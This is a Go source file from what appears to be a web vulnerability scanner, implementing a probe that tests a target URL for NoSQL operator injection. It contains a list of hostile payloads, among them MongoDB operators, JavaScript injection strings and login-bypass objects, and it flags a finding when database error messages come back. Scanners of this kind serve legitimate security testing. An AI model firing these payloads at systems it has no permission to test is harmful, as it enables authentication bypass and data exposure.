package vuln

import (
	"context"
	"fmt"
	"net/http"

	"github.com/buemura/surface/internal/scanner"
	"github.com/buemura/surface/pkg/types"
)

// nosqlPayload sets key to value in the query string. Bracketed keys carry
// MongoDB operators the way PHP and Express parse them.
type nosqlPayload struct {
	key   string
	value string
}

var nosqlPayloads = []nosqlPayload{
	{"id[$ne]", "1"},
	{"id[$ne]", ""},
	{"id[$gt]", ""},
	{"id[$regex]", ".*"},
	{"id[$exists]", "true"},
	{"id[$where]", "1==1"},
	{"id", `{"$ne": null}`},
	{"id", `{"$gt": ""}`},
	{"id", `{"$regex": ".*"}`},
	{"id", `{"$where": "1==1"}`},
	{"id", `' || 1==1//`},
	{"id", `' || '1'=='1`},
	{"id", `' && '1'=='1`},
	{"id", `"; return true; //`},
	{"id", `'; return true; var dummy='`},
	{"id", `' || this.password.match(/.*/)//`},
	{"id", `{"username": {"$ne": null}, "password": {"$ne": null}}`},
	{"id", `{"$or": [{"username": "admin"}, {"password": {"$regex": ".*"}}]}`},
	{"id", `{"selector": {"_id": {"$gt": null}}}`},
}

var nosqlErrorIndicators = []string{
	"MongoError",
	"MongoServerError",
	"mongoose",
	"unknown operator",
	"Bad query",
	"CouchDB",
	"$where",
	"invalid query",
	"Cannot use",
	"query selector",
	"BSON",
}

type nosqlProbe struct{ base }

// NewNoSQL creates the NoSQL operator injection probe.
func NewNoSQL(cfg Config) scanner.Probe {
	return &nosqlProbe{newBase(cfg, NoSQL, "NoSQL operator injection")}
}

func (p *nosqlProbe) Run(ctx context.Context, target types.Target, progress scanner.ProgressFunc) ([]types.Finding, error) {
	baseline := p.baseline(ctx, target, target.URL, "id")

	for _, pl := range nosqlPayloads {
		if ctx.Err() != nil {
			return nil, nil
		}
		item := pl.key + "=" + pl.value
		progress.Notify(item)

		testURL := withParam(target.URL, pl.key, pl.value)
		resp, err := p.get(ctx, target, testURL)
		if err != nil {
			p.skip(item, err)
			continue
		}
		if resp.Status != http.StatusOK {
			continue
		}

		ind, ok := firstIndicator(resp.Body, baseline, nosqlErrorIndicators)
		if !ok {
			continue
		}

		p.log.Warn("NoSQL injection", "url", testURL)
		return []types.Finding{{
			Name:        "NoSQL Injection",
			Severity:    types.SeverityHigh,
			Description: "The application passes query operators from user input to a NoSQL database.",
			Evidence:    fmt.Sprintf("Payload %q triggered NoSQL error indicator %q", item, ind),
			URL:         testURL,
			Remediation: "Cast request values to the expected scalar types and reject operator keys such as $ne or $where.",
			Metadata: map[string]string{
				"param":     pl.key,
				"payload":   pl.value,
				"indicator": ind,
			},
		}}, nil
	}

	return nil, nil
}
